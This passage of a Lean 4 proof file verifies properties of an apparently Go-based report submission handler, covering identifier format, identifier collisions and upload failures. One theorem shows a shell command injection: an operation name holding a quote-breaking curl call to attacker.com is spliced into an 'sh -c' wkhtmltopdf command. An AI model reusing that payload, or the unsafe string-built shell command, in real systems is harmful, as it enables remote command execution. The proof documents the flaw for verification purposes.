    List.replicate (2 - (Nat.toDigits 10 n).length) '0' ++ Nat.toDigits 10 n = digits2 n := by
  unfold digits2
  by_cases h1 : n < 10
  · rw [toDigits_lt_10 n h1]
    have e1 : n / 10 % 10 = 0 := by omega
    have e4 : n % 10 = n := by omega
    rw [e1, e4]; rfl
  · rw [toDigits_lt_100 n (by omega) h]
    have e1 : n / 10 % 10 = n / 10 := by omega
    rw [e1]; rfl

theorem digits4_isDigit (n : Nat) : ∀ c ∈ digits4 n, c.isDigit = true := by
  intro c hc
  simp only [digits4, List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hc
  rcases hc with rfl | rfl | rfl | rfl
  · exact digitChar_isDigit _ (by omega)
  · exact digitChar_isDigit _ (by omega)
  · exact digitChar_isDigit _ (by omega)
  · exact digitChar_isDigit _ (by omega)

theorem digits2_isDigit (n : Nat) : ∀ c ∈ digits2 n, c.isDigit = true := by
  intro c hc
  simp only [digits2, List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hc
  rcases hc with rfl | rfl
  · exact digitChar_isDigit _ (by omega)
  · exact digitChar_isDigit _ (by omega)

theorem digits4_inj (a b : Nat) (ha : a < 10000) (hb : b < 10000)
    (h : digits4 a = digits4 b) : a = b := by
  simp only [digits4, List.cons.injEq, and_true] at h
  obtain ⟨h1, h2, h3, h4⟩ := h
  have e1 := digitChar_inj _ (by omega) _ (by omega) h1
  have e2 := digitChar_inj _ (by omega) _ (by omega) h2
  have e3 := digitChar_inj _ (by omega) _ (by omega) h3
  have e4 := digitChar_inj _ (by omega) _ (by omega) h4
  omega

theorem appendInt_4 (x : Int) (h0 : 0 ≤ x) (h1 : x ≤ 9999) :
    appendInt x 4 = digits4 x.toNat := by
  obtain ⟨n, rfl⟩ := Int.eq_ofNat_of_zero_le h0
  have hn : n < 10000 := by omega
  unfold appendInt
  simp only [Int.natAbs_ofNat, Int.toNat_ofNat]
  rw [if_neg (by omega)]
  exact pad4_eq n hn

theorem appendInt_2 (x : Int) (h0 : 0 ≤ x) (h1 : x ≤ 99) :
    appendInt x 2 = digits2 x.toNat := by
  obtain ⟨n, rfl⟩ := Int.eq_ofNat_of_zero_le h0
  have hn : n < 100 := by omega
  unfold appendInt
  simp only [Int.natAbs_ofNat, Int.toNat_ofNat]
  rw [if_neg (by omega)]
  exact pad2_eq n hn

theorem sprintf04d_nonneg (v : Int) (h0 : 0 ≤ v) (h1 : v < 10000) :
    sprintf04d v = String.mk (digits4 v.toNat) := by
  obtain ⟨n, rfl⟩ := Int.eq_ofNat_of_zero_le h0
  have hn : n < 10000 := by omega
  unfold sprintf04d
  simp only [Int.natAbs_ofNat, Int.toNat_ofNat]
  rw [if_neg (by omega)]
  simp only [List.length_nil, Nat.zero_add, List.nil_append]
  rw [pad4_eq n hn]

theorem tmod_range (u : Int) (h : 0 ≤ u) : 0 ≤ Int.tmod u 10000 ∧ Int.tmod u 10000 < 10000 ∧
    Int.tmod u 10000 = u % 10000 := by
  have e : Int.tmod u 10000 = u % 10000 := Int.tmod_eq_emod h (by decide)
  rw [e]
  omega

/-! ### The submission handler -/

theorem uploadLoop_ok (aarID : String) (now : ClockReading) :
    ∀ (files : List FileHeader) (attachments : List Attachment) (uploaded : List String),
      (∀ f ∈ files, f.openErr = none ∧ f.uploadErr = none) →
      (uploadLoop aarID now files attachments uploaded).err = none := by
  intro files
  induction files with
  | nil => intro _ _ _; rfl
  | cons f rest ih =>
    intro attachments uploaded hall
    have hf := hall f (List.mem_cons_self _ _)
    unfold uploadLoop
    simp only [hf.1, hf.2]
    exact ih _ _ (fun g hg => hall g (List.mem_cons_of_mem _ hg))

theorem runUploads_ok (s3Client : Bool) (r : Request) (now : ClockReading)
    (hfiles : ∀ f ∈ r.attachments, f.openErr = none ∧ f.uploadErr = none) :
    (runUploads s3Client r now).err = none := by
  unfold runUploads
  cases s3Client with
  | false => rfl
  | true => exact uploadLoop_ok _ _ _ _ _ hfiles

theorem afterUploads_ID (atoi : String → Int) (w : World) (aar : Ptr) (r : Request)
    (s3Client : Bool) (now : ClockReading) :
    ((afterUploads atoi w aar r s3Client now).heap aar).ID = aarID now := by
  unfold afterUploads
  simp only [Heap.set_same]
  rfl

theorem handle_clean (atoi : String → Int) (w : World) (aar : Ptr) (r : Request)
    (s3Client : Bool) (now : ClockReading) (createNow : Time)
    (hparse : r.parseErr = none) (hups : (runUploads s3Client r now).err = none) :
    (aarID now ∉ w.store.aars.keys →
      (handleCreateSubmission atoi w aar r s3Client now createNow).formErr = none ∧
      (handleCreateSubmission atoi w aar r s3Client now createNow).formAARID = aarID now ∧
      (handleCreateSubmission atoi w aar r s3Client now createNow).world.store.aars.keys =
        aarID now :: w.store.aars.keys) ∧
    (aarID now ∈ w.store.aars.keys →
      (handleCreateSubmission atoi w aar r s3Client now createNow).formErr =
        some ("error saving AAR: AAR already exists: " ++ aarID now) ∧
      (handleCreateSubmission atoi w aar r s3Client now createNow).world.store = w.store) := by
  have hID := afterUploads_ID atoi w aar r s3Client now
  have hstore : (afterUploads atoi w aar r s3Client now).store = w.store := rfl
  constructor
  · intro hout
    have hout' : ((afterUploads atoi w aar r s3Client now).heap aar).ID ∉
        (afterUploads atoi w aar r s3Client now).store.aars := by
      rw [hID, hstore]; exact hout
    have hc := Create_fresh (afterUploads atoi w aar r s3Client now) aar createNow hout'
    unfold handleCreateSubmission
    simp only [hparse, hups, hc]
    refine ⟨trivial, trivial, ?_⟩
    show (AList.insert ((afterUploads atoi w aar r s3Client now).heap aar).ID aar
      (afterUploads atoi w aar r s3Client now).store.aars).keys = _
    rw [hID, hstore, AList.keys_insert, List.erase_of_not_mem hout]
  · intro hin
    have hin' : ((afterUploads atoi w aar r s3Client now).heap aar).ID ∈
        (afterUploads atoi w aar r s3Client now).store.aars := by
      rw [hID, hstore]; exact hin
    have hc := Create_present (afterUploads atoi w aar r s3Client now) aar createNow hin'
    unfold handleCreateSubmission
    simp only [hparse, hups, hc, hID]
    refine ⟨?_, hstore⟩
    rw [← String.append_assoc]
    rfl

theorem String_append_data (a b : String) : (a ++ b).data = a.data ++ b.data := by
  simp

theorem aarID_data (now : ClockReading) :
    (aarID now).data = ['A', 'A', 'R', '-'] ++ (format20060102 now).data ++ ['-'] ++
      (sprintf04d (Int.tmod now.unix 10000)).data := by
  unfold aarID
  simp only [String_append_data]

theorem aarID_data_nonneg (now : ClockReading) (hunix : 0 ≤ now.unix) :
    (aarID now).data = ['A', 'A', 'R', '-'] ++ (format20060102 now).data ++ ['-'] ++
      digits4 (now.unix % 10000).toNat := by
  rw [aarID_data]
  obtain ⟨h0, h1, he⟩ := tmod_range now.unix hunix
  rw [sprintf04d_nonneg _ h0 h1, he]

theorem handle_store (atoi : String → Int) (w : World) (aar : Ptr) (r : Request)
    (s3Client : Bool) (now : ClockReading) (createNow : Time) :
    ((handleCreateSubmission atoi w aar r s3Client now createNow).formErr = none ∧
      aarID now ∉ w.store.aars.keys ∧
      (handleCreateSubmission atoi w aar r s3Client now createNow).world.store.aars.keys =
        aarID now :: w.store.aars.keys) ∨
    ((handleCreateSubmission atoi w aar r s3Client now createNow).formErr ≠ none ∧
      (handleCreateSubmission atoi w aar r s3Client now createNow).world.store = w.store) := by
  cases hparse : r.parseErr with
  | some err =>
    right
    unfold handleCreateSubmission
    simp only [hparse]
    exact ⟨(by simp), trivial⟩
  | none =>
    cases hups : (runUploads s3Client r now).err with
    | some err =>
      right
      unfold handleCreateSubmission
      simp only [hparse, hups]
      exact ⟨(by simp), rfl⟩
    | none =>
      have hc := handle_clean atoi w aar r s3Client now createNow hparse hups
      by_cases hin : aarID now ∈ w.store.aars.keys
      · right
        obtain ⟨he, hs⟩ := hc.2 hin
        exact ⟨(by rw [he]; simp), hs⟩
      · left
        obtain ⟨he, _, hk⟩ := hc.1 hin
        exact ⟨he, hin, hk⟩

/-- The identifier for a clock reading before the Unix epoch, which a running
system does not produce: one second before the epoch `now.Unix()%10000` is -1
in Go and the identifier is `AAR-19691231--001`; a remainder of -1234 prints
as `-1234`. -/
theorem aarID_before_epoch_has_sign :
    exNowBeforeEpoch.unix = -1 ∧
    Int.tmod exNowBeforeEpoch.unix 10000 = -1 ∧
    aarID exNowBeforeEpoch = "AAR-19691231--001" ∧
    sprintf04d (Int.tmod exNowBeforeEpoch.unix 10000) = "-001" ∧
    sprintf04d (Int.tmod (-1234) 10000) = "-1234" := by
  refine ⟨rfl, by decide, by decide, by decide, by decide⟩

/-- C18. For every submission time, read from a clock that stands at or
after the Unix epoch and at a year of at most four digits, the identifier is
`AAR-`, the eight decimal digits of the date (year, month, day), a hyphen,
and the four decimal digits of `now.Unix()` modulo 10000 with leading zeros:
17 characters, no sign, never more than four digits in the suffix. -/
theorem aarID_format (now : ClockReading) (hunix : 0 ≤ now.unix)
    (hyear : 0 ≤ now.year ∧ now.year ≤ 9999) (hmonth : 1 ≤ now.month ∧ now.month ≤ 12)
    (hday : 1 ≤ now.day ∧ now.day ≤ 31) :
    (aarID now).data = ['A', 'A', 'R', '-'] ++
      (digits4 now.year.toNat ++ digits2 now.month.toNat ++ digits2 now.day.toNat) ++ ['-'] ++
      digits4 (now.unix % 10000).toNat ∧
    (digits4 now.year.toNat ++ digits2 now.month.toNat ++ digits2 now.day.toNat).length = 8 ∧
    (∀ c ∈ digits4 now.year.toNat ++ digits2 now.month.toNat ++ digits2 now.day.toNat,
      c.isDigit = true) ∧
    (digits4 (now.unix % 10000).toNat).length = 4 ∧
    (∀ c ∈ digits4 (now.unix % 10000).toNat, c.isDigit = true) ∧
    (aarID now).length = 17 := by
  have hdata : (aarID now).data = ['A', 'A', 'R', '-'] ++
      (digits4 now.year.toNat ++ digits2 now.month.toNat ++ digits2 now.day.toNat) ++ ['-'] ++
      digits4 (now.unix % 10000).toNat := by
    rw [aarID_data_nonneg now hunix]
    unfold format20060102
    rw [appendInt_4 now.year hyear.1 hyear.2, appendInt_2 now.month (by omega) (by omega),
      appendInt_2 now.day (by omega) (by omega)]
  refine ⟨hdata, rfl, ?_, rfl, digits4_isDigit _, ?_⟩
  · intro c hc
    rcases List.mem_append.mp hc with h | h
    · rcases List.mem_append.mp h with h' | h'
      · exact digits4_isDigit _ c h'
      · exact digits2_isDigit _ c h'
    · exact digits2_isDigit _ c h
  · show (aarID now).data.length = 17
    rw [hdata]; rfl

theorem aarID_format_witness :
    0 ≤ exNow1.unix ∧ (0 ≤ exNow1.year ∧ exNow1.year ≤ 9999) ∧
    (1 ≤ exNow1.month ∧ exNow1.month ≤ 12) ∧ (1 ≤ exNow1.day ∧ exNow1.day ≤ 31) ∧
    (aarID exNow1).length = 17 ∧ aarID exNow1 = "AAR-20251104-0000" :=
  ⟨by decide, by decide, by decide, by decide,
    (aarID_format exNow1 (by decide) (by decide) (by decide) (by decide)).2.2.2.2.2,
    by decide⟩

/-- C19, as stated, fails. Two submissions on 4 November 2025, 10000 seconds
apart, get the same identifier `AAR-20251104-0000`; the first is stored and
the second is rejected by `Create` as already existing. -/
theorem aarID_collides :
    exNow1.unix ≠ exNow2.unix ∧
    aarID exNow1 = "AAR-20251104-0000" ∧ aarID exNow2 = "AAR-20251104-0000" ∧
    (handleCreateSubmission (fun _ => 0) seededWorld 7 exRequest true exNow1 100).formErr =
      none ∧
    (handleCreateSubmission (fun _ => 0)
      (handleCreateSubmission (fun _ => 0) seededWorld 7 exRequest true exNow1 100).world
      8 exRequest true exNow2 200).formErr =
      some "error saving AAR: AAR already exists: AAR-20251104-0000" := by
  refine ⟨by decide, by decide, by decide, by decide, by decide⟩

/-- C19, amended. For two submission times at or after the Unix epoch the
generated identifiers are equal exactly when the dates print the same and the
Unix seconds are congruent modulo 10000. When the identifiers differ and the
second is not yet a key, the second submission (parsed, all uploads
succeeding) is stored; when they are equal and the first was stored, the
second is rejected by `Create` as already existing. -/
theorem aarID_eq_iff (now₁ now₂ : ClockReading) (h₁ : 0 ≤ now₁.unix) (h₂ : 0 ≤ now₂.unix) :
    (aarID now₁ = aarID now₂ ↔
      format20060102 now₁ = format20060102 now₂ ∧ now₁.unix % 10000 = now₂.unix % 10000) ∧
    ∀ (atoi : String → Int) (w : World) (aar₁ aar₂ : Ptr) (r₁ r₂ : Request) (s₁ s₂ : Bool)
      (c₁ c₂ : Time),
      r₂.parseErr = none → (∀ f ∈ r₂.attachments, f.openErr = none ∧ f.uploadErr = none) →
      (aarID now₁ ≠ aarID now₂ → aarID now₂ ∉ w.store.aars.keys →
        (handleCreateSubmission atoi
          (handleCreateSubmission atoi w aar₁ r₁ s₁ now₁ c₁).world aar₂ r₂ s₂ now₂ c₂).formErr =
          none) ∧
      (aarID now₁ = aarID now₂ →
        (handleCreateSubmission atoi w aar₁ r₁ s₁ now₁ c₁).formErr = none →
        (handleCreateSubmission atoi
          (handleCreateSubmission atoi w aar₁ r₁ s₁ now₁ c₁).world aar₂ r₂ s₂ now₂ c₂).formErr =
          some ("error saving AAR: AAR already exists: " ++ aarID now₂)) := by
  constructor
  · constructor
    · intro hid
      have hd := congrArg String.data hid
      rw [aarID_data_nonneg now₁ h₁, aarID_data_nonneg now₂ h₂] at hd
      obtain ⟨hpre, hsuf⟩ := List.append_inj' hd rfl
      obtain ⟨hpre', _⟩ := List.append_inj' hpre rfl
      have hdate : (format20060102 now₁).data = (format20060102 now₂).data :=
        List.append_cancel_left hpre'
      have hr₁ : 0 ≤ now₁.unix % 10000 ∧ now₁.unix % 10000 < 10000 := by omega
      have hr₂ : 0 ≤ now₂.unix % 10000 ∧ now₂.unix % 10000 < 10000 := by omega
      have hnat := digits4_inj _ _ (by omega) (by omega) hsuf
      refine ⟨String.ext hdate, ?_⟩
      omega
    · rintro ⟨hdate, hmod⟩
      unfold aarID
      rw [hdate, (tmod_range now₁.unix h₁).2.2, (tmod_range now₂.unix h₂).2.2, hmod]
  · intro atoi w aar₁ aar₂ r₁ r₂ s₁ s₂ c₁ c₂ hparse hfiles
    have hups := runUploads_ok s₂ r₂ now₂ hfiles
    have hfirst := handle_store atoi w aar₁ r₁ s₁ now₁ c₁
    constructor
    · intro hne hout
      have hout' : aarID now₂ ∉
          (handleCreateSubmission atoi w aar₁ r₁ s₁ now₁ c₁).world.store.aars.keys := by
        rcases hfirst with ⟨_, _, hk⟩ | ⟨_, hs⟩
        · rw [hk]
          intro hmem
          rcases List.mem_cons.mp hmem with h | h
          · exact hne h.symm
          · exact hout h
        · rw [hs]; exact hout
      exact ((handle_clean atoi _ aar₂ r₂ s₂ now₂ c₂ hparse hups).1 hout').1
    · intro heq hok
      have hin' : aarID now₂ ∈
          (handleCreateSubmission atoi w aar₁ r₁ s₁ now₁ c₁).world.store.aars.keys := by
        rcases hfirst with ⟨_, _, hk⟩ | ⟨hne, _⟩
        · rw [hk, heq]; exact List.mem_cons_self _ _
        · exact absurd hok hne
      exact ((handle_clean atoi _ aar₂ r₂ s₂ now₂ c₂ hparse hups).2 hin').1

theorem aarID_eq_iff_witness :
    0 ≤ exNow1.unix ∧ 0 ≤ exNow2.unix ∧
    (aarID exNow1 = aarID exNow2 ↔
      format20060102 exNow1 = format20060102 exNow2 ∧
        exNow1.unix % 10000 = exNow2.unix % 10000) :=
  ⟨by decide, by decide, (aarID_eq_iff exNow1 exNow2 (by decide) (by decide)).1⟩

/-- C20, as stated, fails. For the operation name of the comment in the
source, `GenerateReportHandler` starts the shell `sh` with the arguments `-c`
and one command line; the operation name is not an argument of its own but
part of that line, where its quotes end the `--title` string and begin a new
command. -/
theorem GenerateReportHandler_runs_shell :
    (GenerateReportHandler_cmd
      { blankAAR with OperationName := "'; curl http://attacker.com; echo '" }
      "/tmp/a.html" "/tmp/a.pdf").name = "sh" ∧
    (GenerateReportHandler_cmd
      { blankAAR with OperationName := "'; curl http://attacker.com; echo '" }
      "/tmp/a.html" "/tmp/a.pdf").args =
      ["-c", "wkhtmltopdf --title ''; curl http://attacker.com; echo '' /tmp/a.html /tmp/a.pdf"] ∧
    "'; curl http://attacker.com; echo '" ∉
      (GenerateReportHandler_cmd
        { blankAAR with OperationName := "'; curl http://attacker.com; echo '" }
        "/tmp/a.html" "/tmp/a.pdf").args := by
  refine ⟨rfl, by decide, by decide⟩

/-- C20, amended. For every record, `GenerateReportHandler` starts the shell:
the program is `sh` and the arguments are `-c` and one command line,
`wkhtmltopdf --title '<OperationName>' <html file> <pdf file>`, into which the
operation name is copied unchanged between single quotes. The program and the
number of arguments are the same for every operation name. -/
theorem GenerateReportHandler_cmd_shape (aar : AAR) (tmpHTMLFile tmpPDFFile : String) :
    (GenerateReportHandler_cmd aar tmpHTMLFile tmpPDFFile).name = "sh" ∧
    (GenerateReportHandler_cmd aar tmpHTMLFile tmpPDFFile).args =
      ["-c", "wkhtmltopdf --title '" ++ aar.OperationName ++ "' " ++ tmpHTMLFile ++ " " ++
        tmpPDFFile] ∧
    ∀ other : AAR,
      (GenerateReportHandler_cmd other tmpHTMLFile tmpPDFFile).name =
        (GenerateReportHandler_cmd aar tmpHTMLFile tmpPDFFile).name ∧
      (GenerateReportHandler_cmd other tmpHTMLFile tmpPDFFile).args.length =
        (GenerateReportHandler_cmd aar tmpHTMLFile tmpPDFFile).args.length :=
  ⟨rfl, rfl, fun _ => ⟨rfl, rfl⟩⟩

/-! ### Failing uploads -/

theorem uploadLoop_fail (aarID : String) (now : ClockReading) :
    ∀ (files : List FileHeader) (attachments : List Attachment) (uploaded : List String),
      (∃ f ∈ files, f.uploads = false) →
      ∃ err, (uploadLoop aarID now files attachments uploaded).err =
          some ("error opening file: " ++ err) ∨
        (uploadLoop aarID now files attachments uploaded).err =
          some ("error uploading file to S3: " ++ err) := by
  intro files
  induction files with
  | nil => rintro _ _ ⟨f, hf, _⟩; cases hf
  | cons g rest ih =>
    intro attachments uploaded hfail
    unfold uploadLoop
    cases ho : g.openErr with
    | some e => exact ⟨e, Or.inl rfl⟩
    | none =>
      cases hu : g.uploadErr with
      | some e => exact ⟨e, Or.inr rfl⟩
      | none =>
        have hrest : ∃ f ∈ rest, f.uploads = false := by
          obtain ⟨f, hf, hbad⟩ := hfail
          rcases List.mem_cons.mp hf with rfl | hf'
          · simp [FileHeader.uploads, ho, hu] at hbad
          · exact ⟨f, hf', hbad⟩
        exact ih _ _ hrest

theorem uploadLoop_uploaded (aarID : String) (now : ClockReading) :
    ∀ (files : List FileHeader) (attachments : List Attachment) (uploaded : List String),
      (uploadLoop aarID now files attachments uploaded).uploaded =
        uploaded ++ (files.takeWhile FileHeader.uploads).map
          (fun f => "aars/" ++ aarID ++ "/attachments/" ++ f.Filename) := by
  intro files
  induction files with
  | nil => intro _ uploaded; simp [uploadLoop]
  | cons g rest ih =>
    intro attachments uploaded
    unfold uploadLoop
    cases ho : g.openErr with
    | some e => simp [List.takeWhile, FileHeader.uploads, ho]
    | none =>
      cases hu : g.uploadErr with
      | some e => simp [List.takeWhile, FileHeader.uploads, ho, hu]
      | none =>
        simp only [ih]
        simp [List.takeWhile, FileHeader.uploads, ho, hu]

/-- C22. With an S3 client configured, when opening or uploading one of the
submitted attachments fails, `handleCreateSubmission` ends with the form
error of that failure and without calling `store.Create`: the map of the
store is as before, so an absent identifier stays absent, and every stored
record is as before, although the files ahead of the failing one have been
uploaded. -/
theorem upload_failure_skips_Create (atoi : String → Int) (w : World) (aar : Ptr)
    (r : Request) (now : ClockReading) (createNow : Time)
    (hparse : r.parseErr = none) (hfail : ∃ f ∈ r.attachments, f.uploads = false) :
    (∃ err, (handleCreateSubmission atoi w aar r true now createNow).formErr =
        some ("error opening file: " ++ err) ∨
      (handleCreateSubmission atoi w aar r true now createNow).formErr =
        some ("error uploading file to S3: " ++ err)) ∧
    (handleCreateSubmission atoi w aar r true now createNow).formAARID = "" ∧
    (handleCreateSubmission atoi w aar r true now createNow).world =
      afterUploads atoi w aar r true now ∧
    (handleCreateSubmission atoi w aar r true now createNow).world.store = w.store ∧
    (∀ k, GetByID (handleCreateSubmission atoi w aar r true now createNow).world k =
      GetByID w k) ∧
    (aarID now ∉ w.store.aars.keys →
      aarID now ∉ (handleCreateSubmission atoi w aar r true now createNow).world.store.aars.keys) ∧
    (aar ∉ w.store.values → ∀ p ∈ w.store.values,
      (handleCreateSubmission atoi w aar r true now createNow).world.heap p = w.heap p) ∧
    (handleCreateSubmission atoi w aar r true now createNow).uploaded =
      (r.attachments.takeWhile FileHeader.uploads).map
        (fun f => "aars/" ++ aarID now ++ "/attachments/" ++ f.Filename) := by
  obtain ⟨err, herr⟩ := uploadLoop_fail (aarID now) now r.attachments [] [] hfail
  have hups : ∃ msg, (runUploads true r now).err = some msg ∧
      (msg = "error opening file: " ++ err ∨ msg = "error uploading file to S3: " ++ err) := by
    rcases herr with h | h
    · exact ⟨_, h, Or.inl rfl⟩
    · exact ⟨_, h, Or.inr rfl⟩
  obtain ⟨msg, hmsg, hshape⟩ := hups
  have hout : handleCreateSubmission atoi w aar r true now createNow =
      { world := afterUploads atoi w aar r true now,
        uploaded := (runUploads true r now).uploaded, formErr := some msg, formAARID := "" } := by
    unfold handleCreateSubmission
    simp only [hparse, hmsg]
  rw [hout]
  refine ⟨⟨err, ?_⟩, rfl, rfl, rfl, fun k => rfl, fun h => h, ?_, ?_⟩
  · rcases hshape with h | h
    · left; rw [h]
    · right; rw [h]
  · intro hfresh p hp
    have hne : p ≠ aar := fun h => hfresh (h ▸ hp)
    exact Heap.set_other _ _ _ _ hne
  · show (uploadLoop (aarID now) now r.attachments [] []).uploaded = _
    rw [uploadLoop_uploaded]
    rfl

theorem upload_failure_skips_Create_witness :
    exRequestUploadFails.parseErr = none ∧
    (∃ f ∈ exRequestUploadFails.attachments, f.uploads = false) ∧
    (handleCreateSubmission (fun _ => 0) seededWorld 7 exRequestUploadFails true exNow1
      100).world.store = seededWorld.store ∧
    (handleCreateSubmission (fun _ => 0) seededWorld 7 exRequestUploadFails true exNow1
      100).uploaded = ["aars/AAR-20251104-0000/attachments/map.png"] ∧
    (handleCreateSubmission (fun _ => 0) seededWorld 7 exRequestUploadFails true exNow1
      100).formErr =
      some "error uploading file to S3: failed to upload file to S3: timeout" :=
  ⟨rfl, by decide,
    (upload_failure_skips_Create (fun _ => 0) seededWorld 7 exRequestUploadFails exNow1 100
      rfl (by decide)).2.2.2.1,
    by decide, by decide⟩

end handlers
